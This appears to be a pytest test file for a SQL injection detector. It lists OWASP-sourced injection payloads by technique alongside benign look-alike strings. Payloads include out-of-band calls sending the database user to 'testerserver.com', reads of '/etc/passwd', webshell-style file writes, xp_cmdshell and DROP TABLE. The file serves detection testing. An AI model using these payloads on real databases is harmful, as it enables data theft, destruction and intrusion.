"""Attacks by technique, as OWASP's testing guide and the databases' manuals give them, and values that are none.

WSTG: https://owasp.org/www-project-web-security-testing-guide/v42/4-Web_Application_Security_Testing/
07-Input_Validation_Testing/05-Testing_for_SQL_Injection, with its pages for Oracle, MySQL, SQL Server and PostgreSQL.
"""

import pytest

from inferway.languages.sqli import HIGH, LOW, find_sqli, is_sqli

ATTACKS = {
    "tautology (WSTG, Standard SQL Injection Testing)": [
        "1 or 1=1",
        "1' or '1' = '1",
        "1' or '1' = '1')) /*",
        '1" or "1"="1',
        "1' or '1' = '1')) LIMIT 1/*",
        "x' OR 2>1--",
        "1) or (1)=(1",
        "1 || 1=1",
        "1' && '1'='1",
        "10 AND 1 LIKE 1",
        "admin' or username='admin",
        "' or password like '%",
        "' or 1 -- ",
        "' xor 5=5 #",
        "0 or not 1=2",
    ],
    "comment after the quote (WSTG, Bypassing authentication)": [
        "admin'--",
        "admin' --",
        "admin' #",
        "admin'/*",
        "admin')--",
        "admin';--",
        'admin"-- ',
    ],
    "union (WSTG, Union Exploitation Technique)": [
        "1 UNION ALL SELECT creditCardNumber,1,1 FROM CreditCardTable",
        "' union select null--",
        "99 UNION SELECT 1,1,null--",
        "1 union select * from users",
        "-1' UNION/**/SELECT/**/@@version,2#",
        "x') union (select user from mysql.user)-- ",
        "1e0union select 1,2",
        "1 UNION DISTINCT SELECT username, password FROM users",
        "1/*!50000union*//*!50000select*/1,2",
    ],
    "order by and having, to learn of columns (WSTG, Union; SQL Server)": [
        "10 ORDER BY 10--",
        "' order by 3-- ",
        "' HAVING 1=1--",
        "' group by users.id having 1=1--",
    ],
    "boolean (WSTG, Boolean Exploitation Technique)": [
        "1' AND ASCII(SUBSTRING(username,1,1))=97 AND '1'='1",
        "1 AND (SELECT COUNT(*) FROM users) > 10",
        "1' AND LENGTH(username)=CHAR(13) AND '1' = '1",
        "1 and exists(select * from users)",
        "x' and (select 'a' from users where username='admin')='a",
        "1 and (select case when (1=1) then 1 else 1/0 end)=1",
    ],
    "error (WSTG, Error based; MySQL, Oracle)": [
        "10||UTL_INADDR.GET_HOST_NAME( (SELECT user FROM DUAL) )--",
        "1 and extractvalue(1, concat(0x7e, version()))",
        "1' and updatexml(null,concat(0x0a,user()),null)-- -",
        "'||(select extractvalue(xmltype('x'),'/l') from dual)||'",
    ],
    "out of band (WSTG, Oracle, SQL Server, MySQL)": [
        "10||UTL_HTTP.request('testerserver.com:80')||(SELECT user FROM DUAL)--",
        "' union select load_file('/etc/passwd')--",
        "1' into outfile '/var/www/x.php'-- ",
        "'; exec master..xp_dirtree '//example.com/a'--",
    ],
    "time (WSTG, Time delay Exploitation technique)": [
        "10 AND IF(version() like '5%', sleep(10), 'false')--",
        "1' AND sleep(5)-- ",
        "sleep(5)",
        "'+sleep(5)+'",
        "1; select pg_sleep(10)",
        "'||pg_sleep(10)--",
        "'; waitfor delay '0:0:5'--",
        "1 waitfor delay '0:0:5'",
        "1 and benchmark(5000000,md5(1))",
        "1 AND sleep /**/ (5)",
        "1||dbms_pipe.receive_message('a',10)",
    ],
    "statement after (WSTG, Stacked queries)": [
        "1; DROP TABLE users",
        "x'; drop table users;--",
        "10; INSERT INTO users (name) VALUES ('x')",
        "1; update users set admin=1",
        "1; exec master..xp_cmdshell 'dir'",
        "1;declare @q varchar(99);set @q='x'; exec(@q)",
        "1; delete from users",
        "'; shutdown--",
    ],
    "a whole query": [
        "select * from users",
        "(select user from mysql.user)",
        "SELECT name, password FROM users WHERE id = 5",
    ],
    "names quoted, numbers written otherwise": [
        "1 or 0x31=0x31",
        "1 or `id`=`id` or 1=1",
        "1 or 1.0=1e0",
        "1 or -1=-1",
        "' or ~1=~1-- ",
        "1\tor\n1\r=\x0b1",
        "1/**/or/**/1=1",
        "' or N'a'=N'a",
    ],
    "operators and functions on JSON (PostgreSQL, SQLite, MySQL)": [
        "1 OR '{\"a\":1}'::jsonb <@ '{\"a\":1}'::jsonb",
        "1 or '{\"a\":1}' -> 'a' = 1",
        "1 or 1=json_extract('{\"a\":1}', '$.a')",
    ],
    "backslash: only one family of databases takes it for an escape": [
        "\\' or 1=1--",
        '\\" or 1=1#',
    ],
    "an apostrophe that some databases fold": ["x\u02bc or 1=1--", "x\uff07 or 1=1--"],
}
PIECES = {
    "names of the system": ["information_schema", "from pg_catalog", "xp_cmdshell", "sqlite_master"],
    "pieces of statements": ["drop table users", "union select", "insert into users", "or pmw==", "execute scald"],
    "a quote and an operator": ["x'='y' and 'a", "' like 'a", "1=1", "'1'='1"],
}
BENIGN = [
    "O'Brien",
    "it's 5 o'clock",
    "rock 'n' roll",
    "The boys' and girls' club",
    "Union Select Committee",
    "select a seat from the map",
    "drop me a line; update your order",
    "Tom & Jerry or Bonnie and Clyde",
    "5 or 6",
    "a=1&b=2&c=3",
    "price > 5 and stock < 3",
    "1 + 1 = 2",
    "C# is #1 -- so they say",
    "/* no comment */",
    "if (a == 1 && b == 2) { return 'x'; }",
    '{"a": "it\'s", "b": [1, 2], "c": null}',
    "user@example.com; other@example.com",
    "https://example.com/?q=select+from&order=by",
    "name eq 'Milk' and price lt 2.55",
    "time.sleep(5)",
    "benchmark (2024)",
    "in 1959, like 5 others",
    "=sum(a1:a5)",
    "",
    "'",
    '"',
    "--",
    "';",
]


@pytest.mark.parametrize(
    "text", [pytest.param(text, id=f"{kind}: {text}") for kind, texts in ATTACKS.items() for text in texts]
)
def test_an_attack_is_seen_at_both_sensitivities(text: str) -> None:
    assert is_sqli(text)
    assert is_sqli(text, HIGH)


@pytest.mark.parametrize(
    "text", [pytest.param(text, id=f"{kind}: {text}") for kind, texts in PIECES.items() for text in texts]
)
def test_a_piece_of_an_attack_is_seen_at_high(text: str) -> None:
    assert is_sqli(text, HIGH)


@pytest.mark.parametrize("text", BENIGN)
def test_what_people_write_is_no_attack_at_low(text: str) -> None:
    assert find_sqli(text) is None


def test_low_is_the_default_and_takes_fewer() -> None:
    assert not is_sqli("information_schema")
    assert not is_sqli("information_schema", LOW)


def test_the_reason_names_the_technique_and_the_quote() -> None:
    found = find_sqli("x' union select null--")
    assert found is not None
    assert (found.technique, found.quote) == ("union", "'")


@pytest.mark.parametrize("text", ["1 or 1=1", "name=x&id=1 or 1=1&page=2", '{"id": "1 or 1=1"}', "id=x' or 'a'='a&b=1"])
def test_what_stands_around_an_attack_does_not_hide_it(text: str) -> None:
    assert is_sqli(text)


def test_another_sensitivity_is_refused() -> None:
    with pytest.raises(KeyError):
        is_sqli("1", "MEDIUM")
